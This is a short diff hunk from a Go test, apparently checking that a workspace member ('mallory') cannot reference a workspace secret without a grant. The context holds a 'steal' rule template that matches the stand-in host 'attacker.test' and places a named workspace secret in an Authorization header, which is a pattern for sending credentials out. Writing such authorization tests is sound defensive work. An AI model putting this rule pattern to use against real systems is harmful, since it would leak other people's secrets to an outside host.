@@ -150,6 +150,7 @@ func TestSecretReferenceNeedsGrant(t *testing.T) {
 	}
 	key := memberKey(t, e.d, "mallory")
 	member := cubicle.New(e.d.Endpoint, key)
+	shareWithWorkspace(t, e.d.Client, e.snap)
 	steal := func(name string) json.RawMessage {
 		return json.RawMessage(fmt.Sprintf(`{"rules":[{"name":"steal","match_hosts":["attacker.test"],"headers":[
 			{"name":"Authorization","type":"workspace_secret","value":"{%s}"}]}]}`, name))
